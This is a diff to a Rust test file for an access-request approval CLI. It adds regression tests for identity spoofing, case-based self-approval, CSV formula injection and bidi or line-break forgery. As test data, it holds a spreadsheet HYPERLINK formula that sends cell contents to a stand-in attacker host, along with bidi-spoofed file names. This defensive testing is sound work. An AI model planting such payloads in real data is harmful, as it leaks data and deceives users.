@@ -15,6 +15,14 @@ struct Store {
 
 const T0: &str = "2026-11-29T09:00:00Z";
 
+/// The OS user running the tests: the store's first admin and the one who
+/// makes every customer decision through the CLI.
+fn me() -> String {
+    lockbox_core::Principal::current_os_user()
+        .name()
+        .to_string()
+}
+
 impl Store {
     fn new() -> Self {
         let dir = tempfile::tempdir().unwrap();
@@ -36,7 +44,6 @@ impl Store {
             .unwrap()
             .env("LOCKBOX_DB", &self.db)
             .env("LOCKBOX_NOW", &self.now)
-            .env("USER", "root")
             .env_remove("LOCKBOX_TENANT")
             .args(args)
             .assert()
@@ -58,11 +65,12 @@ impl Store {
     }
 
     fn file(&self, engineer: &str, extra: &[&str]) -> String {
+        // `--engineer=VALUE`: a value may start with '-'.
+        let engineer = format!("--engineer={engineer}");
         let mut a = vec![
             "request",
             "new",
-            "--engineer",
-            engineer,
+            &engineer,
             "--case",
             "SR-100",
             "--workload",
@@ -277,14 +285,233 @@ fn lockbox_off_auto_approves_and_quorum_of_two() {
     assert_eq!(s.state(&a), "approved");
     let b = s.file("eng1", &[]);
     s.ok(&["request", "provider-approve", &b, "--as", "mgr"]);
-    s.ok(&["request", "approve", &b, "--as", "alice"]);
+    s.ok(&["request", "approve", &b]);
     assert_eq!(s.state(&b), "pending", "one approval of two");
-    let err = s.fails(1, &["request", "approve", &b, "--as", "alice"]);
+    // One OS user is one person: the second approval must come from another.
+    let err = s.fails(1, &["request", "approve", &b]);
     assert!(err.contains("already_decided"), "{err}");
-    s.ok(&["request", "approve", &b, "--as", "bob"]);
-    assert_eq!(s.state(&b), "approved");
+    assert_eq!(s.state(&b), "pending");
     let changes = s.json(&["audit", "list", "--operation", "settings_changed"]);
     assert_eq!(changes.as_array().unwrap().len(), 3);
+}
+
+/// Security finding: `--as alice` then `LOCKBOX_USER=bob` approved twice as
+/// two people. A customer decision is made by the OS user running the
+/// process; names typed on the command line or set in the environment are
+/// refused or ignored, and the decision's audit entry records the uid.
+#[test]
+fn one_os_user_cannot_satisfy_a_quorum_of_two() {
+    let s = Store::new();
+    s.ok(&["settings", "set", "approvals-required", "2"]);
+    s.ok(&["user", "add", "alice", "--role", "approver"]);
+    s.ok(&["user", "add", "bob", "--role", "approver"]);
+    let b = s.file("eng1", &[]);
+    s.ok(&["request", "provider-approve", &b, "--as", "mgr"]);
+    // --as is for provider-side names: refused for customer commands, nothing changes.
+    for args in [
+        &["request", "approve", &b, "--as", "alice"][..],
+        &["request", "reject", &b, "--as", "bob"],
+        &["settings", "set", "lockbox", "off", "--as", "alice"],
+        &["user", "add", "mallory", "--role", "admin", "--as", "alice"],
+        &["token", "issue", "--name", "x", "--as", "alice"],
+    ] {
+        let err = s.fails(2, args);
+        assert!(err.contains("OS user"), "{args:?}: {err}");
+    }
+    assert_eq!(s.state(&b), "pending");
+    // The environment names nobody either.
+    let approve_as = |user: &str| {
+        Command::cargo_bin("lockbox")
+            .unwrap()
+            .env("LOCKBOX_DB", &s.db)
+            .env("LOCKBOX_NOW", &s.now)
+            .env("LOCKBOX_USER", user)
+            .env("USER", user)
+            .env("LOGNAME", user)
+            .args(["--json", "request", "approve", &b])
+            .assert()
+    };
+    let v: Value =
+        serde_json::from_slice(&approve_as("alice").success().get_output().stdout).unwrap();
+    assert_eq!(v["state"], "pending");
+    assert_eq!(v["decisions"][1]["actor"], me().as_str());
+    let err = approve_as("bob").code(1).get_output().stderr.clone();
+    assert!(
+        String::from_utf8_lossy(&err).contains("already_decided"),
+        "{}",
+        String::from_utf8_lossy(&err)
+    );
+    assert_eq!(s.state(&b), "pending", "one OS user counted once");
+    // The decision's audit entry says how the decider was authenticated.
+    let e = s.json(&["audit", "list", "--request", &b, "--operation", "approved"]);
+    assert_eq!(e[0]["actor"], me().as_str());
+    assert_eq!(e[0]["details"]["authn"]["method"], "os_user");
+    assert_eq!(
+        e[0]["details"]["authn"]["uid"].as_u64(),
+        Some(u64::from(nix_uid()))
+    );
+}
+
+fn nix_uid() -> u32 {
+    let lockbox_core::identity::Authn::OsUser { uid } =
+        *lockbox_core::Principal::current_os_user().authn();
+    uid
+}
+
+/// Security finding: `Alex@provider.example` approved a request filed by
+/// `alex@provider.example`. "Same person" compares normalized identities.
+#[test]
+fn a_case_or_width_change_is_still_the_same_person() {
+    let s = Store::new();
+    let a = s.file("alex@provider.example", &[]);
+    for manager in [
+        "Alex@provider.example",
+        "ALEX@PROVIDER.EXAMPLE",
+        "ａｌｅｘ@provider.example",
+    ] {
+        let err = s.fails(1, &["request", "provider-approve", &a, "--as", manager]);
+        assert!(err.contains("self_approval"), "{manager}: {err}");
+    }
+    assert_eq!(s.state(&a), "awaiting_provider");
+    s.ok(&[
+        "request",
+        "provider-approve",
+        &a,
+        "--as",
+        "sam@provider.example",
+    ]);
+    let err = s.fails(
+        1,
+        &[
+            "request",
+            "provider-approve",
+            &a,
+            "--as",
+            "SAM@provider.example",
+        ],
+    );
+    assert!(
+        err.contains("never changes") || err.contains("invalid_transition"),
+        "{err}"
+    );
+    // The requester may cancel however they spell their name.
+    let c = s.file("alex@provider.example", &[]);
+    s.ok(&["request", "cancel", &c, "--as", "Alex@Provider.Example"]);
+    assert_eq!(s.state(&c), "canceled");
+    // Customer side: a user "Alice" cannot be added beside "alice".
+    s.ok(&["user", "add", "alice", "--role", "approver"]);
+    let err = s.fails(1, &["user", "add", "ALICE", "--role", "approver"]);
+    assert!(err.contains("already_exists"), "{err}");
+}
+
+/// Security finding: CSV formula injection in `audit export --format csv`.
+#[test]
+fn a_csv_export_never_holds_a_formula() {
+    let s = Store::new();
+    let evil = r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#;
+    for engineer in [evil, "+1+1", "-2+3", "@SUM(A1:A9)"] {
+        s.file(engineer, &[]);
+    }
+    let csv = s.ok(&["audit", "export", "--format", "csv"]);
+    let mut rd = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let mut actors = Vec::new();
+    for rec in rd.records() {
+        let rec = rec.unwrap();
+        for cell in rec.iter() {
+            assert!(
+                !matches!(
+                    cell.chars().next(),
+                    Some('=' | '+' | '-' | '@' | '\t' | '\r')
+                ),
+                "a cell a spreadsheet evaluates: {cell:?}"
+            );
+        }
+        actors.push(lockbox_core::text::csv_cell_decode(&rec[5]).to_string());
+    }
+    // Nothing is lost: the escape is reversible.
+    assert!(actors.iter().any(|a| a == evil), "{actors:?}");
+    assert!(actors.iter().any(|a| a == "-2+3"), "{actors:?}");
+}
+
+/// Line breaks and bidi controls in one-line fields forged lines in the email
+/// and in `request show`: they are refused at input (exit 2, nothing stored).
+#[test]
+fn one_line_fields_refuse_line_breaks_and_bidi_controls() {
+    let s = Store::new();
+    let before = s
+        .json(&["audit", "list", "--limit", "1000"])
+        .as_array()
+        .unwrap()
+        .len();
+    for (flag, value) in [
+        ("--case", "SR-1\nRequest ID:    forged"),
+        ("--resource", "Mailbox: ceo\u{202E}moc.elpmaxe"),
+        ("--workload", "Teams\tExchange"),
+        ("--engineer", "alex\u{2066}@provider.example"),
+    ] {
+        let mut a = vec![
+            "request",
+            "new",
+            "--engineer",
+            "eng",
+            "--case",
+            "SR-1",
+            "--workload",
+            "Teams",
+            "--resource",
+            "r",
+            "--reason",
+            "r",
+        ];
+        let i = a.iter().position(|x| *x == flag).unwrap();
+        a[i + 1] = value;
+        let err = s.fails(2, &a);
+        assert!(err.contains("invalid_input"), "{flag}: {err}");
+    }
+    // A reason may have several lines; still no bidi controls.
+    s.file("eng", &[]);
+    let mut a = vec![
+        "request",
+        "new",
+        "--engineer",
+        "eng",
+        "--case",
+        "SR-2",
+        "--workload",
+        "Teams",
+        "--resource",
+        "r",
+        "--reason",
+        "line one\nline two",
+    ];
+    s.ok(&a);
+    a[11] = "evil \u{202E}txt.exe";
+    s.fails(2, &a);
+    let after = s
+        .json(&["audit", "list", "--limit", "1000"])
+        .as_array()
+        .unwrap()
+        .len();
+    assert_eq!(after, before + 2, "only the two valid requests were stored");
+}
+
+#[test]
+fn a_huge_token_lifetime_is_refused_not_a_panic() {
+    let s = Store::new();
+    let err = s.fails(
+        2,
+        &["token", "issue", "--name", "x", "--expires", "999999999d"],
+    );
+    assert!(err.contains("at most"), "{err}");
+    let v = s.json(&["token", "issue", "--name", "y", "--expires", "3650d"]);
+    assert!(v["token"].as_str().unwrap().starts_with("lbx_"));
+}
+
+#[test]
+fn serve_refuses_a_pinned_clock() {
+    let s = Store::new();
+    let err = s.fails(2, &["serve", "--bind", "127.0.0.1:0"]);
+    assert!(err.contains("LOCKBOX_NOW"), "{err}");
 }
 
 #[test]
@@ -296,16 +523,12 @@ fn rules_and_bad_input_have_clear_errors_and_exit_codes() {
         .fails(1, &["request", "provider-approve", &a, "--as", "eng1"])
         .contains("self_approval"));
     s.ok(&["request", "provider-approve", &a, "--as", "mgr"]);
+    // The OS user (the store's admin) cannot approve a request they filed.
+    let mine = s.file(&me(), &[]);
+    s.ok(&["request", "provider-approve", &mine, "--as", "mgr"]);
     assert!(s
-        .fails(1, &["request", "approve", &a, "--as", "mallory"])
-        .contains("not_permitted"));
-    s.ok(&["user", "add", "eng1", "--role", "approver"]);
-    assert!(s
-        .fails(1, &["request", "approve", &a, "--as", "eng1"])
+        .fails(1, &["request", "approve", &mine])
         .contains("self_approval"));
-    assert!(s
-        .fails(1, &["settings", "set", "lockbox", "off", "--as", "eng1"])
-        .contains("not_permitted"));
     // Bad input: exit 2, nothing changes.
     let before = s
         .json(&["audit", "list", "--limit", "1000"])
@@ -482,12 +705,12 @@ fn tenants_users_prefix_ids_and_demo() {
     assert_eq!(s.json(&["request", "show", tail])["id"], a.as_str());
     // The last admin cannot be removed.
     assert!(s
-        .fails(1, &["user", "remove", "root"])
+        .fails(1, &["user", "remove", &me()])
         .contains("last admin"));
     s.ok(&["user", "add", "alice", "--role", "admin"]);
-    s.ok(&["user", "remove", "root", "--as", "alice"]);
+    s.ok(&["user", "remove", "alice"]);
     let ops: Vec<String> = s
-        .json(&["audit", "list", "--as", "alice"])
+        .json(&["audit", "list"])
         .as_array()
         .unwrap()
         .iter()
